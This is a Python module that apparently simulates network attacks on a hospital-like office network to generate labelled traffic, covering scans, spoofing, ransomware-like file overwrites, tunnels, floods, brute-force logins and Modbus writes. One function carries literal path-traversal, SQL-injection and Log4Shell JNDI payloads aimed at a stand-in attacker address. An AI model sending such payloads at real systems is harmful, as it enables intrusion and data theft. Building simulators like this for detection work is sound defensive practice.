"""Attacks on the network, its services and its offices. Each plays itself and returns its end, attackers, victims, ports and protocol."""

import struct

import speech
from wire import CLIENT, SERVER, SYN, Connection, Host, ip

EVIL, DROP = "192.0.2.66", "203.0.113.99"


def probe(h, t, source, target, port, flags=SYN, answer=None):
    """One segment without a connection."""
    link = Connection(h.network, t, h.hosts[source], h.hosts.get(target) or h.outside(target), port)
    link.segment(CLIENT, flags)
    if answer is not None:
        link.t += 4e-4
        link.segment(SERVER, answer)


def new_device(h, t):
    """A single-board computer asks for an address in the office network"""
    host, server, ident = h.hosts["intruder"], h.hosts["dhcp"], 0x51515151
    h.network.broadcast(t, host, 68, 67, speech.dhcp(h.network, host, 1, ident=ident, name="raspberrypi"), own="0.0.0.0")
    h.network.udp(t + 1, server, host, 67, 68, speech.dhcp(h.network, host, 5, server.address, host.address, host.gateway, "10.9.0.10", ident))
    h.network.arp(t + 1.5, 1, host, host.gateway)
    h.network.dns(t + 2, host, h.hosts["dc"], "deb.mirror.example")
    return t + 3, ["intruder"], [], [67, 53], "dhcp"


def arp_sweep(h, t):
    """ARP requests for a whole network"""
    for n in range(2, 254):
        h.network.arp(t + n * 0.02, 1, h.hosts["intruder"], f"10.9.60.{n}")
    return t + 6, ["intruder"], [], [], "arp"


def host_sweep(h, t):
    """SYNs to port 445 of the server networks"""
    for n in range(120):
        h.outside(f"10.9.0.{100 + n}")
        probe(h, t + n * 0.05, "intruder", f"10.9.0.{100 + n}", 445)
    return t + 6, ["intruder"], [], [445], "tcp"


def slow_port_scan(h, t):
    """A SYN every 0.7 s to another port of the archive"""
    for n in range(110):
        probe(h, t + n * 0.7, "intruder", "pacs", 1 + n * 37, answer=20)
    return t + 77, ["intruder"], ["pacs"], [], "tcp"


def null_scan(h, t):
    """Segments without flags to the interface engine"""
    for n in range(150):
        probe(h, t + n * 0.01, "intruder", "hie", 1000 + n, flags=0, answer=20)
    return t + 2, ["intruder"], ["hie"], [], "tcp"


def gateway_spoofed(h, t):
    """The intruder says that the gateway's address is its own, again and again"""
    for n in range(40):
        victim = h.hosts[f"pc{n % 20:02d}"]
        h.network.arp(t + n, 2, h.hosts["intruder"], victim.address, own="10.9.60.1", to=victim)
    return t + 40, ["intruder", "10.9.60.1"], [], [], "arp"


def rogue_dhcp(h, t):
    """The intruder answers for addresses with itself as gateway and DNS server"""
    host = h.hosts["pc05"]
    h.network.broadcast(t, host, 68, 67, speech.dhcp(h.network, host, 1, ident=77), own="0.0.0.0")
    h.network.udp(t + 0.3, h.hosts["intruder"], host, 67, 68, speech.dhcp(h.network, host, 2, "10.9.60.150", host.address, "10.9.60.150", "10.9.60.150", 77))
    h.network.udp(t + 0.4, h.hosts["dhcp"], host, 67, 68, speech.dhcp(h.network, host, 2, "10.9.0.11", host.address, host.gateway, "10.9.0.10", 77))
    return t + 1, ["intruder"], ["pc05"], [67, 68], "dhcp"


def name_poisoning(h, t):
    """The intruder answers LLMNR questions for every name"""
    for n in range(8):
        name = f"srv{n}".encode()
        question = struct.pack("!HHHHHH", n, 0, 1, 0, 0, 0) + bytes((len(name),)) + name + b"\0\0\x01\0\x01"
        victim = h.hosts[f"pc{n:02d}"]
        h.network.broadcast(t + n * 4, victim, 51000 + n, 5355, question, "224.0.0.252", bytes.fromhex("01005e0000fc"))
        answer = struct.pack("!HHHHHH", n, 0x8000, 1, 1, 0, 0) + question[12:] + b"\xc0\x0c\0\x01\0\x01\0\0\0\x1e\0\x04" + ip("10.9.60.150")
        h.network.udp(t + n * 4 + 0.01, h.hosts["intruder"], victim, 5355, 51000 + n, answer)
    return t + 30, ["intruder"], [], [5355], "llmnr"


def ransomware(h, t):
    """An office PC reads, overwrites with noise and renames ninety files of the file server"""
    share = speech.Share(h.network, "files", "wards")
    for n in range(90):
        share.open(f"letters\\{n}.docx", 1, 0x13019F).read(30000).write(h.network.noise(30000)).rename(f"letters\\{n}.docx.locked").close()
    return h.open(t, "pc17", "files", 445).talk(share.turns).close(), ["pc17"], ["files"], [445], "smb"


def lateral_movement(h, t):
    """An office PC opens ADMIN$ of six neighbours and puts a program there"""
    for n in range(6):
        share = speech.Share(h.network, f"pc{n:02d}", "ADMIN$")
        share.open("PSEXESVC.exe", 5, 0x12019F).write(b"MZ\x90\0" + h.network.noise(40000)).close()
        end = h.open(t + n * 6, "pc17", f"pc{n:02d}", 445).talk(share.turns).close()
    return end, ["pc17"], [f"pc{n:02d}" for n in range(6)], [445], "smb"


def share_guessing(h, t):
    """Thirty wrong passwords at the file server"""
    for n in range(30):
        end = h.open(t + n * 1.3, "intruder", "files", 445).talk(speech.Share(h.network, "files", "wards", failed=True).turns).close()
    return end, ["intruder"], ["files"], [445], "smb"


def ssh_guessing(h, t):
    """Forty short sessions at the archive's SSH"""
    for n in range(40):
        turns = speech.ssh(h.network, 0, 0, b"libssh2_1.10.0")
        turns += [(CLIENT, h.network.noise(148), 0.1), (SERVER, h.network.noise(52), 1.0)]
        end = h.open(t + n * 1.8, "intruder", "pacs", 22).talk(turns).close()
    return end, ["intruder"], ["pacs"], [22], "ssh"


def ftp_guessing(h, t):
    """Passwords at the FTP server of a modality"""
    for n in range(15):
        link = h.open(t + n * 2, "intruder", "dx", 21)
        link.talk([(SERVER, b"220 ready\r\n"), (CLIENT, b"USER service\r\n"), (SERVER, b"331 password\r\n"), (CLIENT, b"PASS guess%d\r\n" % n), (SERVER, b"530 Login incorrect.\r\n", 1)])
        end = link.close()
    return end, ["intruder"], ["dx"], [21], "ftp"


def telnet(h, t):
    """An office PC logs in at the CT by Telnet"""
    link = h.open(t, "pc12", "ct", 23)
    link.talk([(SERVER, b"\xff\xfd\x18\xff\xfd\x20login: "), (CLIENT, b"\xff\xfb\x18service\r\n", 2), (SERVER, b"Password: "), (CLIENT, b"paper-secret\r\n", 2), (SERVER, b"\r\nLast login: today\r\n# "), (CLIENT, b"ls\r\n", 3), (SERVER, b"a b c\r\n# ")])
    return link.close(), ["pc12"], ["ct"], [23], "telnet"


def dns_tunnel(h, t):
    """A PC carries data out in names"""
    for n in range(300):
        label = h.network.noise(24).hex()
        h.network.dns(t + n * 0.2, h.hosts["pc18"], h.hosts["dc"], f"{label}.{n:x}.t.tunnel.example", kind=16, data=b"\x40" + h.network.noise(32).hex().encode())
    return t + 60, ["pc18"], [], [53], "dns"


def beacon(h, t):
    """A PC calls a new address outside each minute, give or take a tenth"""
    for n in range(25):
        h.clock.at(t + n * 60 + h.chance.uniform(-6, 6), lambda t: h.open(t, "pc19", EVIL, 443).talk(speech.tls(h.network, "", 320, 210)).close() and None)
    return t + 1500, ["pc19", EVIL], [], [443], "tls"


def exfiltration(h, t):
    """Sixty megabytes from the second archive to an address outside"""
    return h.open(t, "vna", DROP, 443).talk(speech.tls(h.network, "drop.example", 60_000_000, 2000)).close(), ["vna", DROP], [], [443], "tls"


def icmp_tunnel(h, t):
    """Echo requests with a kilobyte of changing data to an address outside"""
    source, target = h.hosts["pc20"], h.outside(EVIL)
    for n in range(400):
        for sender, receiver, kind, at in ((source, target, 8, 0), (target, source, 0, 0.03)):
            h.network.packet(t + n * 0.15 + at, sender, receiver, 1, struct.pack("!BBHHH", kind, 0, 0, 9, n) + h.network.noise(1000))
    return t + 60, ["pc20", EVIL], [], [], "icmp"


def weak_tls(h, t):
    """The pump server is spoken to in TLS 1.0"""
    h.open(t, "bed02", "pumps", 8443).talk(speech.tls(h.network, "pumps.paper.example", 700, 400, version=0x0301)).close()
    return t + 2, ["pumps", "bed02"], [], [8443], "tls"


def path_traversal(h, t):
    """Paths out of the root, injections and a JNDI look-up at the viewer's plain port"""
    paths = ("/..%2f..%2f..%2fetc/passwd", "/cgi-bin/.%2e/.%2e/bin/sh", "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--", "/?x=${jndi:ldap://192.0.2.66/a}")
    link = h.open(t, "intruder", "viewer", 80)
    for path in paths:
        link.send(CLIENT, speech.request("GET", path, "viewer", "curl/7.88.1"), 1).send(SERVER, speech.reply("404 Not Found", b"{}"))
    return link.close(), ["intruder"], ["viewer"], [80], "http"


def syn_flood(h, t):
    """Twenty thousand SYNs of invented addresses to the viewer in ten seconds"""
    target = h.hosts["viewer"]
    for n in range(20000):
        source = Host("", f"100.{64 + n % 60}.{n // 250 % 250}.{n % 250 + 1}", b"", 0)
        Connection(h.network, t + n * 0.0005, source, target, 443, source_port=1024 + n % 60000).segment(CLIENT, SYN)
    return t + 10, ["viewer"], ["viewer"], [443], "tcp"


def udp_flood(h, t):
    """Thirty thousand datagrams of noise from a PC to the central station"""
    for n in range(30000):
        h.network.udp(t + n * 0.0005, h.hosts["pc21"], h.hosts["central"], 40000, 5000 + n % 3, h.network.noise(200))
    return t + 15, ["pc21"], ["central"], [], "udp"


def slow_http(h, t):
    """Ninety requests to the viewer that grow by a header line every ten seconds"""
    links = [h.open(t + n * 0.05, "intruder", "viewer", 80).send(CLIENT, b"GET / HTTP/1.1\r\nHost: viewer\r\n") for n in range(90)]
    for step in range(9):
        for link in links:
            link.send(CLIENT, b"X-a: %d\r\n" % step, 10)
    return t + 95, ["intruder"], ["viewer"], [80], "http"


def snmp_public(h, t):
    """The intruder walks a switch's and a printer's SNMP with 'public'"""
    for n in range(60):
        for target in ("printer", "dc"):
            h.network.udp(t + n * 0.1, h.hosts["intruder"], h.hosts[target], 40111, 161, speech.snmp(b"public", n))
            h.network.udp(t + n * 0.1 + 0.002, h.hosts[target], h.hosts["intruder"], 161, 40111, speech.snmp(b"public", n, 0xA2, value=b"\x41\x01\x05"))
    return t + 6, ["intruder"], ["printer", "dc"], [161], "snmp"


def controller_write(h, t):
    """A PC writes coils of the building's meter by Modbus"""
    link = h.open(t, "pc22", "meter", 502)
    for n in range(20):
        body = struct.pack("!HHHBBHH", n, 0, 6, 1, 5, n, 0xFF00)
        link.send(CLIENT, body, 0.2).send(SERVER, body)
    return link.close(), ["pc22"], ["meter"], [502], "modbus"


def old_smb(h, t):
    """A PC speaks SMB 1 to the file server and tries a transaction of EternalBlue's kind"""
    def message(code, body, multiplex, answer=False):
        data = b"\xffSMB" + bytes((code,)) + bytes(4) + bytes((0x98 if answer else 0x18,)) + b"\x01\x28" + bytes(12) + struct.pack("<HHHH", 0, 0xFEFF, 0, multiplex) + body
        return struct.pack("!I", len(data)) + data
    link = h.open(t, "pc22", "files", 445)
    link.send(CLIENT, message(0x72, b"\0\x0c\0\x02NT LM 0.12\0", 64)).send(SERVER, message(0x72, b"\x11" + bytes(34) + b"\0\0", 64, answer=True))
    link.send(CLIENT, message(0x25, b"\x10" + bytes(26) + struct.pack("<HHHHH", 0, 0, 2, 0x23, 0) + b"\x07\0\\PIPE\\\0", 65)).send(SERVER, message(0x25, b"\0\0\0", 65, answer=True))
    return link.close(), ["pc22"], ["files"], [445], "smb"


def remote_desktop(h, t):
    """Log-ins by remote desktop, again and again, at the laboratory's server"""
    for n in range(25):
        link = h.open(t + n * 1.5, "intruder", "lis", 3389)
        link.send(CLIENT, b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=admin\r\n\x01\0\x08\0\x03\0\0\0").send(SERVER, b"\x03\0\0\x13\x0e\xd0\0\0\x12\x34\0\x02\x1f\x08\0\x02\0\0\0")
        end = link.talk(speech.tls(h.network, "", 900, 700)).close()
    return end, ["intruder"], ["lis"], [3389], "rdp"
